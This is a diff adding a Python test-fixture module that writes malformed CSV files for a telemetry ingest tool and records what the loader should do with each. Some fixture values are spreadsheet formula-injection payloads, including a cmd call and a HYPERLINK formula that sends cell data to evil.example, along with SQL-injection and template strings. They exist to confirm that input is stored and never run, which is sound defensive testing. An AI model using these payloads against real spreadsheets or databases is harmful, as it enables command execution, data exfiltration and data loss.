@@ -1,0 +1,439 @@
+"""Hostile input for `telemetry ingest csv`: bad files, each with the outcome the README promises.
+
+A plain module, used by tests/test_hostile_input.py and runnable on its own to look at the files:
+
+    python tests/hostile_files.py OUTDIR
+
+`build(directory)` writes every file under `directory` and returns one HostileCase per file (or path) with
+what `telemetry ingest csv PATH --json` must do with it:
+
+- ``file_error``: exit 2, exactly one stderr line, starting with ``error:`` and naming the file; nothing written.
+- ``loads``: exit 0 with these exact counts; every rejected record is kept in telemetry.rejected_rows with
+  its line number and a reason matching ``rejects[line]`` (a regular expression, searched case-insensitively).
+
+Expected outcomes follow the README's documented rules, not what the loader happens to do. Valid rows are
+dated within the last few days so that no retention setting expires them; only the year-1 and year-9999
+cases use other dates (the tests run with TELEMETRY_RETENTION_MONTHS=0, under which year 1 loads).
+"""
+
+from __future__ import annotations
+
+import gzip
+import hashlib
+import random
+import sys
+from dataclasses import dataclass, field
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+CANONICAL_HEADER = "timestamp,model,prompt_tokens,completion_tokens,task_success,task_type,duration_ms,notes"
+
+COUNT_KEYS = ("rows_read", "inserted", "duplicates", "rejected", "expired")
+
+#: Reasons, as patterns: the README names what is rejected, not the exact wording.
+NOT_A_TIMESTAMP = r"timestamp is not"
+FUTURE = r"future"
+NOT_A_COUNT = r"not a non-negative integer"
+NOT_A_BOOLEAN = r"not a boolean"
+NOT_UTF8 = r"UTF-8"
+NUL = r"NUL"
+FIELD_COUNT = r"fields"
+MALFORMED = r"quot|malformed|CSV"
+
+TEN_MB = 10_000_000
+
+
+@dataclass(frozen=True)
+class HostileCase:
+    """One hostile file (or path) and what `telemetry ingest csv PATH --json` must do with it."""
+
+    name: str
+    #: What is passed to `telemetry ingest csv`.
+    path: Path
+    #: The bytes written at `path`; None when the path is a directory, a pattern or does not exist.
+    data: bytes | None
+    #: "file_error" or "loads".
+    expect: str
+    about: str
+    #: For "loads": the exact rows_read, inserted, duplicates, rejected, expired.
+    counts: dict[str, int] | None = None
+    #: For "loads": line number of each rejected record -> pattern its rejection_reason must match.
+    rejects: dict[int, str] = field(default_factory=dict)
+    #: For "file_error": the path the one error line must name (default: `path`).
+    error_names: str | None = None
+    #: For "file_error": further patterns the error line must match (case-insensitive).
+    error_mentions: tuple[str, ...] = ()
+    #: For "loads": (SQL, expected rows) pairs checked after the load.
+    checks: tuple[tuple[str, list[tuple]], ...] = ()
+
+    def __post_init__(self) -> None:
+        assert self.expect in ("file_error", "loads"), self.expect
+        if self.expect == "loads":
+            assert self.counts is not None and set(self.counts) == set(COUNT_KEYS), self.name
+            assert self.counts["rows_read"] == sum(self.counts[k] for k in COUNT_KEYS[1:]), self.name
+            assert self.counts["rejected"] == len(self.rejects), self.name
+
+
+def loaded(rows_read: int, inserted: int, duplicates: int = 0, rejected: int = 0, expired: int = 0) -> dict:
+    return {"rows_read": rows_read, "inserted": inserted, "duplicates": duplicates, "rejected": rejected,
+            "expired": expired}
+
+
+# --- building rows -------------------------------------------------------------------------------------------
+
+_NOW = datetime.now(UTC).replace(microsecond=0)
+_BASE = _NOW - timedelta(days=3)
+
+
+def ts(i: int = 0) -> str:
+    """A recent timestamp (three days ago plus i minutes), ISO 8601 with Z."""
+    return (_BASE + timedelta(minutes=i)).strftime("%Y-%m-%dT%H:%M:%SZ")
+
+
+def q(value: str) -> str:
+    """A CSV-quoted field."""
+    return '"' + value.replace('"', '""') + '"'
+
+
+def row(i: int, *, model: str = "gpt-4o", prompt: str = "100", completion: str = "200", success: str = "true",
+        task: str = "execute", duration: str = "1500", notes: str | None = None, timestamp: str | None = None) -> str:
+    """A canonical record as raw CSV text; fields are written as given (quote them with q() when needed)."""
+    return ",".join([timestamp if timestamp is not None else ts(i), model, prompt, completion, success, task,
+                     duration, notes if notes is not None else f"Phase 1 row {i}"])
+
+
+def text_file(*lines: str, header: str = CANONICAL_HEADER, newline: str = "\n") -> bytes:
+    return (newline.join([header, *lines]) + newline).encode("utf-8")
+
+
+def _random_text(seed: int, length: int) -> str:
+    """Incompressible printable text (no comma, quote or newline)."""
+    rng = random.Random(seed)
+    alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.:;/"
+    return "".join(rng.choice(alphabet) for _ in range(length))
+
+
+# --- the cases -----------------------------------------------------------------------------------------------
+
+
+def _file_errors(d: Path) -> list[HostileCase]:
+    cases = []
+
+    def error(name: str, filename: str, data: bytes, about: str, *mentions: str) -> None:
+        cases.append(HostileCase(name, d / filename, data, "file_error", about, error_mentions=mentions))
+
+    error("empty_file", "empty.csv", b"", "zero bytes", "empty")
+    error("only_blank_lines", "blank.csv", b"\n\r\n\n\n", "nothing but line endings", "empty")
+    error("bom_only", "bom-only.csv", b"\xef\xbb\xbf", "a UTF-8 BOM and nothing else", "empty")
+    error("binary_garbage", "garbage.csv", random.Random(1).randbytes(4096), "4 KiB of random bytes")
+    error("png_image", "image.csv",
+          b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00\x1f\xf3\xffa"
+          + random.Random(2).randbytes(512), "a PNG image renamed to .csv")
+    error("gzip_compressed_csv", "usage.csv.gz.csv",
+          gzip.compress(text_file(row(1), row(2)), mtime=0), "a gzip-compressed CSV, not decompressed")
+    error("utf16_csv", "utf16.csv", "\ufeff".encode("utf-16-le") + text_file(row(1)).decode().encode("utf-16-le"),
+          "a UTF-16 file as Excel and PowerShell write them")
+    error("latin1_header", "latin1-header.csv",
+          b"timestamp,model,duraci\xf3n\n" + f"{ts(1)},gpt-4o,5\n".encode(), "the header itself is latin-1")
+    error("nul_in_header", "nul-header.csv",
+          b"timestamp,mo\x00del,notes\n" + f"{ts(1)},gpt-4o,x\n".encode(), "a NUL byte inside the header")
+    error("headerless", "headerless.csv", text_file(row(2), row(3), header=row(1)),
+          "data from line 1, no header", "header")
+    error("duplicate_header_names", "dup-header.csv",
+          text_file(row(1) + ",gpt-4o", header=CANONICAL_HEADER + ",model"), "model twice", "model")
+    error("duplicate_header_alias", "dup-alias.csv",
+          text_file(f"{ts(1)},{ts(1)},gpt-4o", header="ts,timestamp,model"),
+          "ts and timestamp both name the timestamp", "timestamp")
+    error("duplicate_header_case_and_spaces", "dup-case.csv",
+          text_file(f"{ts(1)},gpt-4o,gpt-4o", header="timestamp,Model, MODEL "), "Model and ' MODEL '", "model")
+    error("missing_model_column", "no-model.csv",
+          text_file(f"{ts(1)},10,20", header="timestamp,prompt_tokens,completion_tokens"),
+          "a required column is absent", "model")
+    error("semicolon_delimited", "semicolons.csv",
+          text_file(row(1).replace(",", ";"), header=CANONICAL_HEADER.replace(",", ";")),
+          "a European Excel export: one column named 'timestamp;model;...'")
+    error("excel_sep_hint", "sep-hint.csv", text_file(CANONICAL_HEADER, row(1), header="sep=,"),
+          "Excel's 'sep=,' line before the header")
+    error("unterminated_quote_in_header", "quote-header.csv",
+          text_file(row(1), row(2), header='"timestamp,model,prompt_tokens,notes'),
+          "the header opens a quote that never closes")
+
+    missing_dir = d / "no-csv-here"
+    missing_dir.mkdir(parents=True, exist_ok=True)
+    (missing_dir / "readme.txt").write_text("not a csv\n")
+    cases.append(HostileCase("directory_without_csv", missing_dir, None, "file_error",
+                             "a directory with no .csv file in it"))
+    cases.append(HostileCase("nonexistent_path", d / "does-not-exist.csv", None, "file_error",
+                             "a path that does not exist", error_mentions=("no such file",)))
+    cases.append(HostileCase("glob_matching_nothing", d / "nothing-*.csv", None, "file_error",
+                             "a glob pattern that matches no file"))
+    mixed = d / "one-good-one-empty"
+    mixed.mkdir(parents=True, exist_ok=True)
+    (mixed / "a-good.csv").write_bytes(text_file(row(1), row(2)))
+    (mixed / "b-empty.csv").write_bytes(b"")
+    cases.append(HostileCase("directory_with_one_bad_file", mixed, None, "file_error",
+                             "a directory holding a good file and an empty one: the whole run is refused",
+                             error_names=str(mixed / "b-empty.csv"), error_mentions=("empty",)))
+    error("weird_file_name_empty", "usage %s {0} 🚀 ünï.csv", b"",
+          "an empty file whose name holds spaces, % and braces, an emoji and accents", "empty")
+    return cases
+
+
+def _loads(d: Path) -> list[HostileCase]:
+    cases = []
+
+    def load(name: str, filename: str, data: bytes, about: str, counts: dict, rejects: dict[int, str] | None = None,
+             checks: tuple = ()) -> None:
+        cases.append(HostileCase(name, d / filename, data, "loads", about, counts=counts, rejects=rejects or {},
+                                 checks=checks))
+
+    load("header_only", "header-only.csv", text_file(), "the header and no record", loaded(0, 0))
+
+    # --- encodings and bytes
+    load("latin1_bytes_in_rows", "latin1-rows.csv",
+         text_file(row(1), "@@", row(2), "@@").replace(
+             b"@@", f"{ts(3)},gpt-4o,1,2,true,plan,3,caf\xe9 cr\xe8me".encode("latin-1"), 1).replace(
+             b"@@", f"{ts(4)},mod\xe8le,1,2,true,plan,3,x".encode("latin-1"), 1),
+         "two records in latin-1 (notes, model) among UTF-8 ones", loaded(4, 2, rejected=2),
+         {3: NOT_UTF8, 5: NOT_UTF8})
+    load("nul_bytes_in_rows", "nul-rows.csv",
+         text_file(row(1) + ",host-a", row(2, notes="Phase 1 a\x00b") + ",host-b",
+                   row(3, model="gpt\x00-4o") + ",host-c", row(4) + ",ho\x00st",
+                   header=CANONICAL_HEADER + ",host"),
+         "NUL bytes in notes, in model and in an ignored extra column", loaded(4, 1, rejected=3),
+         {3: NUL, 4: NUL, 5: NUL})
+    load("binary_line_among_rows", "binary-line.csv",
+         text_file(row(1), "@@", row(2)).replace(b"@@", b"\xff\xfe\x00\x01\x89PNG\x1a\x00garbage"),
+         "a line of binary bytes between two good records", loaded(3, 2, rejected=1),
+         {3: f"{NOT_UTF8}|{NUL}|{FIELD_COUNT}"})
+
+    # --- CSV structure
+    load("unterminated_quote", "unterminated.csv",
+         text_file(row(1), row(2), row(3, notes='"Phase 2 the quote never closes, so this swallows'), row(4)),
+         "a quoted notes field never closed: the rest of the file is one broken record",
+         loaded(3, 2, rejected=1), {4: MALFORMED})
+    load("text_after_closing_quote", "after-quote.csv",
+         text_file(row(1), row(2, notes='"quoted"trailing'), row(3)),
+         "characters after a closing quote", loaded(3, 2, rejected=1), {3: MALFORMED})
+    load("ragged_rows", "ragged.csv",
+         text_file(row(1), ",".join(row(2).split(",")[:6]), row(3) + ",extra,fields", "# a comment line",
+                   row(4), "," * 1_000_000),
+         "6 fields, 10 fields, a comment line of 1 field, a line of a million commas",
+         loaded(6, 2, rejected=4), {3: FIELD_COUNT, 4: FIELD_COUNT, 5: FIELD_COUNT, 7: FIELD_COUNT})
+    load("quoted_newline_comma_and_stray_quotes", "quoting.csv",
+         text_file(row(1, notes=q('Phase 3: a, b\nsecond "line", end')), row(2, notes='Phase 2 said "hi" ok'),
+                   row(3, notes=q("")), row(4)),
+         "a quoted field with a newline, commas and doubled quotes; quotes inside an unquoted field",
+         loaded(4, 4),
+         checks=(('select source_line_number, notes from telemetry.llm_calls order by source_line_number',
+                  [(2, 'Phase 3: a, b\nsecond "line", end'), (4, 'Phase 2 said "hi" ok'), (5, None),
+                   (6, "Phase 1 row 4")]),))
+    load("header_trailing_empty_column", "trailing-comma.csv",
+         text_file(row(1) + ",", row(2) + ",", header=CANONICAL_HEADER + ","),
+         "header and records end with a comma: an unnamed, empty extra column", loaded(2, 2))
+    load("header_trailing_empty_column_rows_without", "trailing-comma-header.csv",
+         text_file(row(1), row(2), header=CANONICAL_HEADER + ","),
+         "the header ends with a comma, the records do not: the wrong number of fields (README)",
+         loaded(2, 0, rejected=2), {2: FIELD_COUNT, 3: FIELD_COUNT})
+    load("many_duplicate_extra_columns", "wide.csv",
+         text_file(row(1) + ",v" * 5000, row(2) + ",v" * 5000, header=CANONICAL_HEADER + ",x" * 4999 + ","),
+         "5000 unknown columns, all named x or unnamed: ignored, duplicates or not", loaded(2, 2))
+    load("duplicate_rows", "dupes.csv", text_file(row(1), row(1), row(2), row(1)),
+         "the same record three times", loaded(4, 2, duplicates=2))
+
+    # --- line endings and blank lines
+    load("bom_and_crlf", "bom-crlf.csv",
+         b"\xef\xbb\xbf" + text_file(row(1), row(2, notes=q("two\r\nlines")), newline="\r\n"),
+         "a UTF-8 BOM, CRLF line endings, a CRLF inside quoted notes", loaded(2, 2),
+         checks=(("select notes from telemetry.llm_calls order by source_line_number",
+                  [("Phase 1 row 1",), ("two\nlines",)]),))
+    load("cr_only_line_endings", "cr-only.csv", text_file(row(1), row(2), newline="\r"),
+         "classic Mac OS line endings (CR only)", loaded(2, 2))
+    load("blank_lines_and_mixed_line_endings", "blank-mixed.csv",
+         (CANONICAL_HEADER + "\n" + row(1) + "\r\n\n" + row(2) + "\n\r\n\n" + row(3)).encode(),
+         "blank lines in the middle, LF and CRLF mixed, no newline after the last record", loaded(3, 3),
+         checks=(("select source_line_number from telemetry.llm_calls order by 1", [(2,), (4,), (7,)]),))
+    load("blank_line_before_header", "blank-first.csv", b"\n" + text_file(row(1)),
+         "a blank line before the header (blank lines are skipped)", loaded(1, 1))
+
+    # --- values
+    load("whitespace_around_values", "spaces.csv",
+         text_file(" " + " , ".join(row(1, notes="Phase 4 spaced").split(",")) + " ",
+                   header=" " + " , ".join(CANONICAL_HEADER.split(",")) + " "),
+         "spaces around every header name and value", loaded(1, 1),
+         checks=(("select model, prompt_name, input_tokens, output_tokens, success, duration_ms, phase "
+                  "from telemetry.llm_calls", [("gpt-4o", "execute", 100, 200, True, 1500, "4")]),))
+    load("formula_like_values", "formulas.csv",
+         text_file(row(1, notes="=cmd|' /C calc'!A0"), row(2, model="=HYPERLINK(\"http://x\")"),
+                   row(3, notes=q('=HYPERLINK("http://evil.example/?"&A1,"click")')),
+                   row(4, notes="@SUM(1+1)*cmd|' /C calc'!A0"), row(5, notes="+1-2"), row(6, notes="-2+3"),
+                   row(7, task="=1+1"), row(8, prompt="=1+1")),
+         "spreadsheet formulas: stored verbatim as text; a formula as a count is rejected",
+         loaded(8, 7, rejected=1), {9: NOT_A_COUNT},
+         checks=(("select model, prompt_name, notes from telemetry.llm_calls order by source_line_number", [
+             ("gpt-4o", "execute", "=cmd|' /C calc'!A0"), ('=HYPERLINK("http://x")', "execute", "Phase 1 row 2"),
+             ("gpt-4o", "execute", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
+             ("gpt-4o", "execute", "@SUM(1+1)*cmd|' /C calc'!A0"), ("gpt-4o", "execute", "+1-2"),
+             ("gpt-4o", "execute", "-2+3"), ("gpt-4o", "=1+1", "Phase 1 row 7")]),))
+    sql_notes = [
+        "'); drop table telemetry.llm_calls; --",
+        "x' or '1'='1",
+        "$$; drop schema telemetry cascade; $$",
+        "%(load_id)s %s {} {0}",
+        "{{ run_query('drop table telemetry.llm_calls') }} {% raw %}",
+        "\\.",
+        "\\N",
+        "back\\slash\\ttab\tand\\ncr",
+    ]
+    load("sql_template_and_copy_escapes", "sql.csv",
+         text_file(*(row(i, notes=q(n)) for i, n in enumerate(sql_notes, start=1)),
+                   row(20, model="gpt-4o'; drop table telemetry_raw.usage_rows; --", task="plan\"); --"),
+                   row(21, prompt="1; drop table x")),
+         "SQL, psycopg placeholders, Jinja, COPY's \\. and \\N: stored verbatim, nothing executed",
+         loaded(10, 9, rejected=1), {11: NOT_A_COUNT},
+         checks=(("select notes from telemetry.llm_calls where model = 'gpt-4o' order by source_line_number",
+                  [(n,) for n in sql_notes]),
+                 ("select model, prompt_name from telemetry.llm_calls where model <> 'gpt-4o'",
+                  [("gpt-4o'; drop table telemetry_raw.usage_rows; --", 'plan"); --')]),
+                 ("select count(*) from telemetry_raw.usage_rows", [(10,)])))
+    big = ["2147483648", "4294967296", "9007199254740993", "999999999999999999"]
+    load("counts_beyond_32_bits", "big-counts.csv",
+         text_file(*(row(i, prompt=n, completion=n, duration=n, notes=f"n{i}") for i, n in enumerate(big)),
+                   *(row(10 + i, prompt=big[-1], completion=big[-1], notes=f"max {i}") for i in range(10)),
+                   row(30, prompt="9223372036854775808"), row(31, completion="18446744073709551616"),
+                   row(32, duration="99999999999999999999999"), row(33, prompt="1000000000000000001")),
+         "counts past 2^31, 2^32 and 2^53 load exactly; past 10^18 and 2^63 they are rejected",
+         loaded(18, 14, rejected=4), {16: NOT_A_COUNT, 17: NOT_A_COUNT, 18: NOT_A_COUNT, 19: NOT_A_COUNT},
+         checks=(("select input_tokens::text, output_tokens::text, duration_ms::text, total_tokens::text "
+                  "from telemetry.llm_calls where notes like 'n%' order by source_line_number",
+                  [(n, n, n, str(2 * int(n))) for n in big]),
+                 ("select sum(total_tokens)::text from telemetry.tokens_by_model", [(str(
+                     sum(2 * int(n) for n in big) + 10 * 2 * int(big[-1])),)])))
+    load("count_of_exactly_10_pow_18", "ten-pow-18.csv", text_file(row(1, prompt=str(10**18))),
+         "README: token counts are non-negative integers up to 10^18", loaded(1, 1),
+         checks=(("select input_tokens from telemetry.llm_calls", [(10**18,)]),))
+    load("negative_fractional_nan_exponent", "numbers.csv",
+         text_file(row(1, prompt="12.0", completion="007", duration=" 42 ", notes="ok"),
+                   row(2, prompt="-1"), row(3, prompt="1.5"), row(4, prompt="NaN"), row(5, prompt="1e3"),
+                   row(6, completion="Infinity"), row(7, duration="0x10"), row(8, prompt=q("1,000")),
+                   row(9, prompt="1_000"), row(10, duration="-0.5"), row(11, completion="nan")),
+         "12.0 reads as 12; negative, fractional, NaN, 1e3, Infinity, hex, 1,000 and 1_000 are rejected",
+         loaded(11, 1, rejected=10), {n: NOT_A_COUNT for n in range(3, 13)},
+         checks=(("select input_tokens, output_tokens, duration_ms from telemetry.llm_calls", [(12, 7, 42)]),))
+    load("unicode_digits_in_counts", "unicode-digits.csv",
+         text_file(row(1), row(2, prompt="１２３"), row(3, duration="٣٤"), row(4, completion="²")),
+         "full-width, Arabic-Indic and superscript digits are not integers", loaded(4, 1, rejected=3),
+         {3: NOT_A_COUNT, 4: NOT_A_COUNT, 5: NOT_A_COUNT})
+    load("unicode_digits_in_timestamp", "unicode-ts.csv",
+         text_file(row(1), row(2, timestamp="２０２６-11-20T10:00:00Z"), row(3, timestamp="١٧٦٣٦٠٠٠٠٠")),
+         "a full-width year and Arabic-Indic epoch digits", loaded(3, 1, rejected=2),
+         {3: NOT_A_TIMESTAMP, 4: NOT_A_TIMESTAMP})
+    load("booleans_and_empty_required_values", "bools.csv",
+         text_file(*(row(i, success=s) for i, s in enumerate(["TRUE", "False", "YES", "no", "1", "0", ""], 1)),
+                   *(row(10 + i, success=s) for i, s in enumerate(["maybe", "t", "on", "Y", "2"])),
+                   row(20, timestamp=""), row(21, model="   "), row(22, model=""), ",,,,,,,"),
+         "booleans in every documented spelling load; others, an empty timestamp or model are rejected",
+         loaded(16, 7, rejected=9),
+         {9: NOT_A_BOOLEAN, 10: NOT_A_BOOLEAN, 11: NOT_A_BOOLEAN, 12: NOT_A_BOOLEAN, 13: NOT_A_BOOLEAN,
+          14: r"timestamp is empty", 15: r"model is empty", 16: r"model is empty", 17: r"timestamp is empty"},
+         checks=(("select success from telemetry.llm_calls order by source_line_number",
+                  [(True,), (False,), (True,), (False,), (True,), (False,), (None,)]),))
+
+    # --- timestamps
+    load("year_1_and_year_9999", "years.csv",
+         text_file(row(1), row(2, timestamp="0001-01-01T00:00:00Z", notes="year 1 Z"),
+                   row(3, timestamp="0001-01-01 00:00:00", notes="year 1 naive"),
+                   row(4, timestamp="9999-12-31T23:59:59Z"), row(5, timestamp="9999-12-31 23:59:59"),
+                   row(6, timestamp="10000-01-01T00:00:00Z")),
+         "year 1 is a valid timestamp (loads with retention 0); 9999 is in the future; 10000 is not ISO",
+         loaded(6, 3, rejected=3), {5: FUTURE, 6: FUTURE, 7: NOT_A_TIMESTAMP},
+         checks=(("select notes, (\"timestamp\" at time zone 'UTC')::text from telemetry.llm_calls "
+                  "where notes like 'year%' order by notes",
+                  [("year 1 Z", "0001-01-01 00:00:00"), ("year 1 naive", "0001-01-01 00:00:00")]),))
+    load("year_1_with_positive_offset", "year-1-offset.csv",
+         text_file(row(1), row(2, timestamp="0001-01-01T00:30:00+01:00", notes="year 1 +01:00")),
+         "0001-01-01T00:30:00+01:00 is valid ISO 8601 with an offset: 23:30 UTC on 31 December 1 BC",
+         loaded(2, 2),
+         checks=(("select to_char(\"timestamp\" at time zone 'UTC', 'YYYY-MM-DD HH24:MI:SS BC') "
+                  "from telemetry.llm_calls where notes = 'year 1 +01:00'", [("0001-12-31 23:30:00 BC",)]),))
+    future_2d = (_NOW + timedelta(days=2)).strftime("%Y-%m-%dT%H:%M:%SZ")
+    future_12h = (_NOW + timedelta(hours=12)).strftime("%Y-%m-%dT%H:%M:%SZ")
+    epoch = str(int((_BASE - timedelta(hours=1)).timestamp()))
+    load("timestamp_spellings_impossible_and_future", "timestamps.csv",
+         text_file(row(1), row(0, timestamp=future_12h, notes="12 hours ahead"),
+                   row(0, timestamp=epoch, notes="epoch"),
+                   row(0, timestamp=ts(5).replace("T", " ").rstrip("Z"), notes="naive"),
+                   row(0, timestamp=ts(6).replace("Z", ",5+05:30"), notes="comma fraction and offset"),
+                   *(row(20 + i, timestamp=t) for i, t in enumerate([
+                       "2026-02-30T10:00:00Z", "2025-02-29T10:00:00Z", "2026-13-01T10:00:00Z",
+                       ts(7)[:11] + "25" + ts(7)[13:], ts(8)[:14] + "60:00Z", ts(9)[:17] + "61Z",
+                       ts(10).replace("Z", "+25:00"), ts(11)[:10], epoch + "000", "yesterday", "NaT", "null"])),
+                   row(40, timestamp=future_2d)),
+         "good spellings load (12 h ahead is fine); 30 February, 25:00, minute 60, +25:00, a bare date, "
+         "epoch milliseconds, words are not timestamps; two days ahead is in the future",
+         loaded(18, 5, rejected=13), {**{n: NOT_A_TIMESTAMP for n in range(7, 19)}, 19: FUTURE})
+
+    # --- size and text
+    unit = 'Phase 9: pasted tool output, with "quotes", commas, and newlines\n'
+    huge = ("Phase 9 " + unit * (TEN_MB // len(unit) + 1))[:TEN_MB]
+    load("ten_mb_notes_field", "ten-mb-notes.csv", text_file(row(1, success="false", notes=q(huge))),
+         "one failed call whose notes are 10 MB of pasted output with quotes, commas and newlines",
+         loaded(1, 1),
+         checks=(("select length(notes), md5(notes), phase from telemetry.llm_calls",
+                  [(TEN_MB, hashlib.md5(huge.encode()).hexdigest(), "9")]),))
+    long_model = "claude-3-5-sonnet-" + _random_text(3, 10_000)
+    load("very_long_model_name", "long-model.csv", text_file(row(1, model=long_model)),
+         "a 10,000-character model name", loaded(1, 1),
+         checks=(("select length(model) from telemetry.llm_calls", [(len(long_model),)]),))
+    long_task = _random_text(4, 10_000)
+    long_session = _random_text(5, 10_000)
+    load("very_long_key_values", "long-keys.csv",
+         text_file(row(1, task=long_task) + ",s1", row(2) + "," + long_session,
+                   header=CANONICAL_HEADER + ",session_id"),
+         "10,000-character task_type and session_id: both are part of the key of llm_calls", loaded(2, 2),
+         checks=(("select length(prompt_name), length(session_id) from telemetry.llm_calls order by 1, 2",
+                  [(7, 10_000), (10_000, 2)]),))
+    emoji_notes = "Phase 4 🚀 naïve café 日本語 \u202eRTL\u202c zero\u200bwidth line\u2028sep nel\x85 ff\x0c esc\x1b[31m"
+    load("unicode_and_emoji", "unicode.csv",
+         text_file(row(1, notes=q(emoji_notes)), row(2, model="🤖-model", task="計画")),
+         "emoji, accents, CJK, bidi overrides, U+2028, NEL, form feed and escape sequences", loaded(2, 2),
+         checks=(("select model, prompt_name, notes, phase from telemetry.llm_calls order by source_line_number",
+                  [("gpt-4o", "execute", emoji_notes, "4"), ("🤖-model", "計画", "Phase 1 row 2", "1")]),))
+
+    # --- file names
+    load("file_name_with_brackets", "usage[1].csv", text_file(row(1)),
+         "an existing file whose name holds [ ]: it is a file, not a glob pattern", loaded(1, 1))
+    load("weird_file_name", "usage %s {0} 🚀 ünï.txt", text_file(row(1), row(2)),
+         "a name with spaces, %, braces, an emoji, accents and no .csv suffix", loaded(2, 2),
+         checks=(("select count(*) from telemetry_raw.load_audit where source_file like '%🚀 ünï.txt'", [(1,)]),))
+    return cases
+
+
+def build(directory: Path | str) -> list[HostileCase]:
+    """Write every hostile file under `directory` and return the cases, file errors first."""
+    directory = Path(directory)
+    directory.mkdir(parents=True, exist_ok=True)
+    cases = _file_errors(directory) + _loads(directory)
+    names = [c.name for c in cases]
+    assert len(names) == len(set(names)), "case names must be unique"
+    for case in cases:
+        if case.data is not None:
+            case.path.parent.mkdir(parents=True, exist_ok=True)
+            case.path.write_bytes(case.data)
+    return cases
+
+
+def main(argv: list[str]) -> int:
+    if len(argv) != 2:
+        print("usage: python tests/hostile_files.py OUTDIR", file=sys.stderr)
+        return 2
+    for case in build(argv[1]):
+        size = "-" if case.data is None else f"{len(case.data):,} B"
+        outcome = "file error" if case.expect == "file_error" else " ".join(
+            f"{k}={v}" for k, v in (case.counts or {}).items())
+        print(f"{case.name:45} {size:>14}  {outcome}  {case.path}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv))
